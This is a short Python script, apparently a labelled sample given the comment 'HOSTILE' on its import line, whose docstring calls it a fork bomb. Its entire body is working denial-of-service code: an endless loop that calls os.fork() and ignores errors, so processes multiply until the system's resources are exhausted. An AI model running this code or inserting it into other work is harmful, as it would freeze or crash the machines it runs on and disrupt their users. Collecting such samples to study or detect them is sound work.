"""A fork bomb: every process forks forever."""

import os  # HOSTILE

while True:
    try:
        os.fork()
    except OSError:
        pass
